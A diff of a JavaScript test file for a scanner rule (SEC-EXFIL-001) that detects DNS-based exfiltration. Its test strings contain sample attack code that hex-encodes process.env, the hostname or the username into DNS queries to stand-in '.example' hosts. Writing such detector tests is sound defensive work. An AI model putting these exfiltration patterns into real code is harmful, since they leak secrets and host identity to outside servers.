@@ -117,13 +117,14 @@ describe('SEC rules: messages and ranges', () => {
     none('fetch(url); fetch("https://a.example/" + "v1"); fetch(`https://a.example/${"v1"}`)', 'SEC-EXFIL-001');
   });
   it('SEC-EXFIL-001 on DNS queries for assembled host names', () => {
-    const text = 'const dns = require("dns");\ndns.lookup(Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60) + ".x.example", cb);\nrequire("dns/promises").resolveTxt(`${id}.t.example`);\ndns.promises.resolve4(id + ".example");';
+    const text = 'const dns = require("dns"), os = require("os");\ndns.lookup(Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60) + ".x.example", cb);\nrequire("dns/promises").resolveTxt(`${os.hostname()}.t.example`);\nconst id = os.userInfo().username;\ndns.promises.resolve4(id + ".example");';
     assert.deepEqual(hits(text, 'SEC-EXFIL-001'), [
       ['dns.lookup', 'DNS query for a host name built at runtime — includes environment data'],
-      ['require("dns/promises").resolveTxt', 'DNS query for a host name built at runtime'],
-      ['dns.promises.resolve4', 'DNS query for a host name built at runtime'],
+      ['require("dns/promises").resolveTxt', 'DNS query for a host name built at runtime — includes environment data'],
+      ['dns.promises.resolve4', 'DNS query for a host name built at runtime — includes environment data'],
     ]);
-    none('const dns = require("dns"); dns.lookup(host, cb); dns.resolve("registry.npmjs.org"); dns.reverse(ip + "", cb); dns.setServers([a + b])', 'SEC-EXFIL-001');
+    // Without host data: a driver's SRV lookup from a connection string, plain names, other dns calls.
+    none('const dns = require("dns"); dns.resolveSrv(`_${service}._tcp.${host}`, cb); dns.resolveTxt(host + ".", cb); dns.lookup(host, cb); dns.resolve("registry.npmjs.org"); dns.reverse(ip + "", cb); dns.setServers([a + b])', 'SEC-EXFIL-001');
   });
   it('SEC-FSSENS-001', () => {
     const head = 'const fs = require("fs");';
